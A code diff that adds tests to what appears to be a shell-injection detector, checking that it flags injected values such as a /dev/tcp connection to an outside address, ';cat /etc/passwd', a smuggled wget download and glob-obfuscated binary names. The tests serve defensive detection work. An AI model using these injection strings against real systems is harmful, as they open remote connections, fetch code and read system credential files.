@@ -169,4 +169,21 @@ describe("shell analyzer", () => {
     expect(() => shellAnalyzer.analyze({ text: junk(200_000), location: "body", path: "body", name: "", kind: "text" })).not.toThrow();
     expect(s("")).toBe(0);
   });
+
+  test("a glob word whose brackets make no class names no binary, and the rest of the value is still judged", () => {
+    expect(() => s("/???/c?t[")).not.toThrow();
+    expect(s("/???/c?t[")).toBe(0);
+    expect(s("/[z-a]in/sh")).toBe(0);
+    // The analyzer used to throw on the word, which cost the value's other findings.
+    expect(strongest(shellAnalyzer, "/dev/tcp/198.51.100.7/80 x ;/???/c?t[")?.rule).toBe("shell.dev-tcp");
+  });
+
+  test("the separators and words of a value are found wherever it is long or short", () => {
+    // Long values are searched another way than short ones: both find the same command.
+    for (const pad of ["", "a".repeat(200)]) {
+      expect(evidence(shellAnalyzer, `${pad}x;cat /etc/passwd`)).toBe(";cat /etc/passwd");
+      expect(s(`${pad}1\\nwget http://198.51.100.7/a`)).toBeGreaterThanOrEqual(0.8);
+      expect(s(`${pad} word word`)).toBe(0);
+    }
+  });
 });
